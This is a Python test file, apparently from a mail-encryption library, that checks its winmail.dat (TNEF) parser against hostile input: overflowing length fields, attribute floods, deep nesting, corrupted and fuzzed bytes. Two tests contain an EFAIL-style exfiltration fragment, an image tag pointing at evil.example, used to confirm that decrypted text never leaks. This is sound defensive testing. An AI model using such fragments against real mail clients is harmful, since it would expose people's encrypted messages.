"""A hostile winmail.dat: it costs little, whatever it says of itself, and goes on unchanged; it opens nothing it should not.

See also
    tests/unit/mail/test_tnef.py (damage), tests/attacks/test_efail.py (encrypted parts in a foreign frame).
"""

from __future__ import annotations

import asyncio
import random
import struct
import time
import tracemalloc

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from letterlock.mail.message import Message
from letterlock.mail.parse import Part
from letterlock.mail.tnef import MAX_ATTRIBUTES, TnefInvalid, read
from letterlock.smime.peel import MAX_LAYERS, Peeled, peel, whole
from tests.fakes import tnef
from tests.fakes.own_keys import Keys
from tests.fakes.people import encrypted_entity, person

BOB = person("bob")
HEADER = b"From: alice@example.org\r\nTo: bob@example.net\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
INSIDE = b"Content-Type: text/plain\r\n\r\nHello\r\n"
BINARY = b"Content-Type: application/ms-tnef\r\nContent-Transfer-Encoding: binary\r\n\r\n"
CMS = b"".join(bytes(each) for each in Part(encrypted_entity([INSIDE], BOB)).decoded())


def peeled(entity: bytes) -> Peeled:
    """What our key takes off."""
    return asyncio.run(peel(Message(HEADER + entity), Keys(BOB)))


def seconds(octets: bytes) -> float:
    """How long it takes to find that out."""
    started = time.perf_counter()
    assert not peeled(tnef.entity(octets)).changed
    return time.perf_counter() - started


@pytest.mark.req("B14")
@pytest.mark.parametrize("length", [0x7FFFFFFF, 0x80000000, 0xFFFFFFFE, 0xFFFFFFFF])
def test_lengths_beyond_the_end(length: int) -> None:
    octets = tnef.stream(tnef.attribute(tnef.ATTACHMENT, tnef.DATA, CMS, length=length))
    with pytest.raises(TnefInvalid):
        read(octets)
    assert not peeled(tnef.entity(octets)).changed


@pytest.mark.req("B14")
def test_a_million_attributes() -> None:
    empty = tnef.attribute(tnef.MESSAGE, 0x00069003, b"")
    assert seconds(tnef.stream(*[empty] * (MAX_ATTRIBUTES * 50))) < 1
    nothing = tnef.stream(*[tnef.attribute(tnef.ATTACHMENT, tnef.RENDERING, b"")] * 100_000)
    assert seconds(nothing) < 1


@pytest.mark.req("B14")
def test_no_attachment_is_copied_many_times() -> None:
    octets = tnef.wrapping(b"x" * (8 << 20))
    tracemalloc.start()
    try:
        read(octets)
        assert tracemalloc.get_traced_memory()[1] < 1 << 20
    finally:
        tracemalloc.stop()


@pytest.mark.req("B14", "B2")
def test_one_in_another_ends_with_the_layers() -> None:
    entity = INSIDE
    for _ in range(MAX_LAYERS + 2):
        sealed = encrypted_entity([entity], BOB)
        entity = tnef.entity(tnef.wrapping(b"".join(bytes(each) for each in Part(sealed).decoded())))
    found = peeled(entity)
    assert [each.verdict for each in found.layers] == ["ok"] * MAX_LAYERS + ["too-deep"]


@pytest.mark.req("B14", "B1")
@pytest.mark.parametrize(
    "frame",
    [
        [b'<img src="https://evil.example/?'],
        [b"=?"],
        [b" " * 2000],
        [b"\xc2\xa0"],
    ],
)
def test_nothing_is_opened_in_a_frame_that_says_something(frame: list[bytes]) -> None:
    found = peeled(tnef.mixed(*tnef.texts(*frame), tnef.entity(tnef.wrapping(CMS))))
    assert not found.changed


@pytest.mark.req("B14", "B1")
def test_what_stands_in_the_wrapping_beside_the_file_is_never_shown() -> None:
    body = tnef.attribute(tnef.MESSAGE, 0x0002800C, b'<img src="https://evil.example/?\0')
    wrapping = tnef.wrapping(CMS)
    found = peeled(tnef.entity(wrapping[:6] + body + wrapping[6:]))
    assert found.changed
    assert b"evil" not in bytes(found.opened.octets)
    assert bytes(found.opened.octets).endswith(INSIDE)


@pytest.mark.req("B14")
@pytest.mark.slow
def test_any_change_of_a_good_one() -> None:
    """Ten thousand damaged ones: each stays an attachment, or opens to the very text."""
    chance = random.Random(9788)
    good = tnef.wrapping(CMS)
    head = good.index(CMS)
    for _ in range(10_000):
        octets = bytearray(good)
        for _ in range(chance.randint(1, 4)):
            octets[chance.randrange(head)] = chance.randrange(256)
        if chance.random() < 0.2:
            struct.pack_into("<I", octets, chance.randrange(head - 4), chance.randrange(1 << 32))
        found = whole(
            Part(HEADER + b"Content-Type: application/ms-tnef\r\nContent-Transfer-Encoding: binary\r\n\r\n" + octets)
        )
        assert found is None or b"".join(bytes(each) for each in found.entity.decoded()).startswith(b"0")


@pytest.mark.req("B14")
@settings(max_examples=60)
@given(st.binary(max_size=600))
def test_any_octets_after_a_good_start(tail: bytes) -> None:
    found = peeled(BINARY + tnef.SIGNATURE + b"\x01\x00" + tail)
    assert found.opened is found.message
